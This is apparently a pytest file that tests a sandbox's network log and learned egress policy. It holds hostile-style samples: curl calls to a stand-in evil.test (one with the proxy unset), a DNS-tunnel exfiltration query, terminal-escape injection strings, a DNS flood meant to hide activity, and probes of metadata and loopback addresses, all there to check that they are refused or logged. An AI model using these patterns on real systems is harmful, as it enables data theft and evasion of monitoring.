"""Every decision is on record, and `learn` makes a policy of what was used."""

from __future__ import annotations

import json

import pytest

from ringfence import NetworkEvent, NetworkPolicy, Sandbox
from tests.egress.inside.attempts import PROXY
from tests.egress.inside.conftest import MakeSandbox, attempt
from tests.egress.world import World, places

pytestmark = [pytest.mark.anyone, pytest.mark.in_world]


def of_kind(sandbox: Sandbox, *kinds: str) -> list[NetworkEvent]:
    return [event for event in sandbox.network_log() if event.kind in kinds]


def test_what_was_allowed_and_what_was_refused(make: MakeSandbox) -> None:
    sandbox = make(network="a.test")
    sandbox.exec(["curl", "-sS", "http://a.test/bytes/1000"], timeout_s=10)
    sandbox.exec(["curl", "-sS", "-m", "5", "http://evil.test/"], timeout_s=10)
    sandbox.exec(
        ["env", "-u", "http_proxy", "curl", "-sS", "-m", "5", "http://evil.test/"], timeout_s=10
    )

    log = sandbox.network_log()
    allowed = [event for event in log if event.allowed and event.host == "a.test" and event.port]
    refused = [event for event in log if not event.allowed and event.host == "evil.test"]
    assert allowed, log
    assert any(event.bytes_in >= 1000 or event.bytes_out >= 1000 for event in allowed), allowed
    assert all(
        event.address in (places.WEB_V4, places.WEB_V6) for event in allowed if event.address
    )
    assert refused, log
    assert all(event.reason for event in refused)
    assert all(event.sandbox_id == sandbox.id for event in log)


def test_a_name_that_was_only_asked_for_is_on_record(make: MakeSandbox) -> None:
    sandbox = make(network="a.test")
    attempt(sandbox, "dns", name="c3RvbGVu.tunnel.test", type=16)

    events = of_kind(sandbox, "dns")

    assert [("c3rvbgvu.tunnel.test", False)] == [(e.host.lower(), e.allowed) for e in events]


def test_control_characters_are_escaped(make: MakeSandbox) -> None:
    """Whoever prints the record on a terminal prints what code inside chose."""
    sandbox = make(network="a.test")
    nasty = "\x1b[2J\x07\r\nfake: line\x00\x7f"
    for say in (
        f"CONNECT {nasty}:443 HTTP/1.1\r\n\r\n",
        f"GET http://{nasty}/ HTTP/1.1\r\n\r\n",
        f"GET http://a.test/{nasty} HTTP/1.1\r\nHost: {nasty}\r\n\r\n",
    ):
        attempt(sandbox, "tcp", host=PROXY[0], port=PROXY[1], say=[say])
    attempt(sandbox, "socks", address=nasty, port=80)
    attempt(
        sandbox,
        "dns",
        name="",
        raw="\x124\x01\x00\x00\x01" + "\0" * 6 + "\x05\x1b[2J\x07\0\0\1\0\1",
    )

    text = "".join(
        json.dumps(event.to_json(), ensure_ascii=False) for event in sandbox.network_log()
    )
    shown = json.loads(f"[{','.join(json.dumps(e.to_json()) for e in sandbox.network_log())}]")

    assert not set(text) & set("\x1b\x07\r\n\x00\x7f")
    assert not any(
        set(str(value)) & set("\x1b\x07\r\n\x00\x7f") for e in shown for value in e.values()
    )


FLOOD = """
import socket
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(5)
sock.connect(("127.0.0.53", 53))
for n in range(5000):
    label = f"n{n}".encode()
    sock.send(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes([len(label)]) + label + b"\\4evil\\0\\0\\1\\0\\1")
    sock.recv(512)
"""


def test_the_record_is_bounded_and_nobody_hides_behind_a_flood(make: MakeSandbox) -> None:
    sandbox = make(network="a.test")
    flood = ["python3", "-c", FLOOD]
    result = sandbox.exec(flood, timeout_s=60)
    assert result.ok, result.stderr_text

    sandbox.exec(["curl", "-sS", "http://a.test/"], timeout_s=10)

    log = sandbox.network_log()
    assert 0 < len(log) <= 1_100
    assert [event for event in log if event.allowed and "a.test" == event.host and event.port]


def test_learning_proposes_the_smallest_policy(make: MakeSandbox) -> None:
    sandbox = make(network=NetworkPolicy(learn=True))
    sandbox.exec(["curl", "-sS", "http://a.test/"], timeout_s=10)
    sandbox.exec(["curl", "-sS", "https://b.test/"], timeout_s=10)
    attempt(sandbox, "tcp", host="ssh.test", port=22, say=["x\n"])
    attempt(sandbox, "tcp", host=places.OTHER_V4, port=80, say=["GET / HTTP/1.0\r\n\r\n"])

    learned = sandbox.learned_policy()

    assert not learned.learn
    assert {"a.test:80", "b.test:443", "ssh.test:22", f"{places.OTHER_V4}:80"} == set(
        learned.allowed_hosts
    )
    again = make(network=learned)
    assert again.exec(["curl", "-sS", "http://a.test/"], timeout_s=10).ok
    assert not again.exec(["curl", "-sSf", "-m", "5", "http://c.test/"], timeout_s=10).ok


@pytest.mark.parametrize("host", ["loopback.test", "metadata.test", "private.test", "127.0.0.1"])
def test_learning_lets_nobody_at_special_addresses(
    make: MakeSandbox, world: World, host: str
) -> None:
    sandbox = make(network=NetworkPolicy(learn=True))
    mark = world.mark()

    for port in (80, places.HOST_PORT):
        attempt(sandbox, "tcp", host=host, port=port, say=["GET / HTTP/1.0\r\n\r\n"])

    assert [] == [event for event in world.left(mark) if "dns" != event["kind"]]
    assert () == sandbox.learned_policy().allowed_hosts
